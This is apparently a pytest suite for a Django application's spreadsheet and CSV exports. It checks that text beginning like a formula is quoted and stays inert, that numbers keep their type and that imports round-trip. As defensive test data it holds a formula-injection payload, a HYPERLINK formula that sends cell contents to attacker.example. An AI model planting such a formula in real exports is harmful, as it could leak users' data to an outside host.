"""Formula injection: text that starts like a formula stays text in every .xlsx and .csv export.

Each export is downloaded through the real route, with a plan, a task, a target
and an agency whose text is ``=HYPERLINK(...)``; the file is opened again and no
cell may be a formula, while the text reads back unchanged and numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from cchc.agencies.models import Agency
from cchc.agencies.services import import_directory
from cchc.onestop.models import Dossier
from cchc.plans.models import Plan, Target, Task
from cchc.web import spreadsheets

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")'


@pytest.fixture
def evil(published_plan, directory):
    """The plan's title, first task, first target and Sở Tư pháp's name all begin with EVIL."""
    Plan.objects.filter(pk=published_plan.pk).update(title=EVIL)
    Task.objects.filter(plan=published_plan, ref="1").update(content=EVIL)
    Target.objects.filter(plan=published_plan).update(text="+" + EVIL[1:])
    Agency.objects.filter(pk=directory["stp"].pk).update(name=EVIL)
    published_plan.refresh_from_db()
    return published_plan


def _cells(data: bytes):
    """Every cell of the workbook in ``data``, after checking its XML holds no formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_safe(data: bytes, *expected: str) -> list:
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for text in expected:
        assert text in texts, text
    return cells


def test_plan_export(client, evil, users):
    client.force_login(users["leader"])
    response = client.get(f"/plans/{evil.pk}/export.xlsx")
    assert response.status_code == 200
    cells = _assert_safe(response.content, EVIL, "+" + EVIL[1:])
    assert all(c.quotePrefix for c in cells if c.value == EVIL)
    # numbers stay numbers: the progress column holds ints
    assert any(isinstance(c.value, int) for c in cells if c.column_letter != "A")


def test_task_list_export(client, evil, users):
    client.force_login(users["leader"])
    response = client.get(f"/plans/{evil.pk}/tasks/?export=xlsx")
    assert response.status_code == 200
    _assert_safe(response.content, EVIL)
    # what the export produced is what the bulk update reads back
    from cchc.tracking.spreadsheets import read_updates

    assert len(read_updates(response.content)) == evil.tasks.count()


def test_consolidated_report_export(client, evil, users):
    client.force_login(users["office"])
    page = client.get(f"/reporting/plans/{evil.pk}/consolidated/")
    assert page.status_code == 200
    response = client.get(f"/reporting/plans/{evil.pk}/consolidated.xlsx")
    assert response.status_code == 200
    cells = _assert_safe(response.content, "+" + EVIL[1:])
    assert any(isinstance(c.value, int) for c in cells)  # the task counts


def test_directory_exports_and_csv_round_trip(client, evil, users, directory):
    client.force_login(users["admin"])
    xlsx = client.get("/agencies/export.xlsx")
    assert xlsx.status_code == 200
    _assert_safe(xlsx.content, EVIL)
    response = client.get("/agencies/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    fields = [field for row in rows for field in row]
    assert "'" + EVIL in fields
    assert not any(field.startswith(spreadsheets.FORMULA_LEADS) for field in fields)
    # the import accepts exactly what the export produced: the name comes back unquoted
    report = import_directory(response.content, "danh-muc.csv", users["admin"])
    assert report.ok, report.errors
    assert Agency.objects.get(pk=directory["stp"].pk).name == EVIL


def test_onestop_statistics_export(client, evil, users, directory):
    Dossier.objects.create(
        code="HS-1",
        agency=directory["stp"],
        channel=Dossier._meta.get_field("channel").choices[0][0],
        received=datetime.date(2025, 2, 1),
        due=datetime.date(2025, 2, 10),
        finished=datetime.date(2025, 2, 5),
    )
    client.force_login(users["office"])
    response = client.get("/onestop/statistics/?format=xlsx&kind=quarter&year=2025")
    assert response.status_code == 200
    _assert_safe(response.content, EVIL)


def test_helper_keeps_numbers():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([-5, Decimal("-1.5"), 2.25, "-12", "+3,5", "-1+2", "@SUM(A1)", "\tx", EVIL])
    cells = _cells(spreadsheets.workbook_bytes(workbook))
    values = [c.value for c in cells]
    assert values[:3] == [-5, Decimal("-1.5"), 2.25] or values[:3] == [-5, -1.5, 2.25]
    assert [c.data_type for c in cells[:3]] == ["n", "n", "n"]
    assert values[3:] == ["-12", "+3,5", "-1+2", "@SUM(A1)", "\tx", EVIL]
    assert [c.quotePrefix for c in cells[3:]] == [False, False, True, True, True, True]
    assert spreadsheets.csv_cell(-5) == "-5" and spreadsheets.csv_cell("-12") == "-12"
    assert spreadsheets.csv_cell("-1+2") == "'-1+2"
    for text in ("=1+1", "+1+1", "-1-1", "@A1", "\t=1", "\r=1", "'=x", "bình thường"):
        assert spreadsheets.csv_value(spreadsheets.csv_cell(text)) == text
